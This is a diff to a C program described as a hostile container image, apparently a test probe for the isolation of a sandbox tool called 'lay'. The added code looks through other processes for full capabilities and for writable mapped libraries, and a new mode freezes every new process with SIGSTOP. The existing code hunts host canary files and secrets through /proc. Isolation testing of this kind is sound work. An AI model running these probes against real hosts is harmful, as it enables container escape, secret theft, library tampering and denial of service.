@@ -1,11 +1,13 @@
 /* What a hostile image does to reach the host through a process of lay:
  *   escape hunt CANARY     for ever: says "hunting", then whatever it gets of the file CANARY of the host by /proc/N/root
  *                          or a folder among the descriptors, or of SECRET in an environment or on a stack, of
- *                          processes that it sees
+ *                          processes that it sees, which of them has all rights, and what mapped library it could write
+ *   escape stop -          for ever: says "hunting" and stops every process that comes
  *   escape write OUT       until lay's program, which stands open at descriptor 9, is not busy any more: appends to it,
  *                          and writes to OUT what came of it
  * Static: gcc -static. */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
@@ -49,8 +51,38 @@ static off_t top_of_stack(long process) {
   return (off_t)(end - begin > sizeof text ? end - sizeof text : begin);
 }
 
+static void look_at_rights(long process) {
+  char path[64], line[256];
+  unsigned long long rights = 0;
+  snprintf(path, sizeof path, "/proc/%ld/status", process);
+  FILE* status = fopen(path, "r");
+  if (status == NULL) return;
+  while (fgets(line, sizeof line, status) != NULL)
+    if (sscanf(line, "CapEff: %llx", &rights) == 1 && (rights >> 21 & 1) != 0) printf("all rights of %ld\n", process);
+  fclose(status);
+}
+
+static void take_libraries(long process) {
+  char folder[64], path[512];
+  snprintf(folder, sizeof folder, "/proc/%ld/map_files", process);
+  DIR* files = opendir(folder);
+  if (files == NULL) return;
+  for (struct dirent* one = readdir(files); one != NULL; one = readdir(files)) {
+    snprintf(path, sizeof path, "%s/%s", folder, one->d_name);
+    const ssize_t length = readlink(path, text, sizeof text - 1);
+    text[length > 0 ? length : 0] = 0;
+    const int file = strstr(text, ".so") == NULL ? -1 : open(path, O_RDWR);
+    if (file < 0) continue;
+    printf("library of %ld: %s\n", process, text);
+    close(file);
+  }
+  closedir(files);
+}
+
 static void look_at(long process, const char* canary) {
   char way[64];
+  look_at_rights(process);
+  take_libraries(process);
   take_file(process, "root", canary);
   for (int fd = 3; fd < 40; ++fd) {
     snprintf(way, sizeof way, "fd/%d/../../../../../../../..", fd);
@@ -74,6 +106,13 @@ static int hunt(const char* canary) {
   }
 }
 
+static int stop_all(void) {
+  puts("hunting");
+  for (pid_t known = getpid();;)
+    for (pid_t process = known + 1; process < known + 3; ++process)
+      if (kill(process, SIGSTOP) == 0) known = process;
+}
+
 static int write_to_program(const char* out) {
   prctl(PR_SET_PDEATHSIG, 0);
   for (int tries = 0; tries < 3000; ++tries) {
@@ -93,5 +132,6 @@ static int write_to_program(const char* out) {
 int main(int count, char** words) {
   setvbuf(stdout, NULL, _IONBF, 0);
   if (count != 3) return 2;
+  if (strcmp(words[1], "stop") == 0) return stop_all();
   return strcmp(words[1], "hunt") == 0 ? hunt(words[2]) : write_to_program(words[2]);
 }
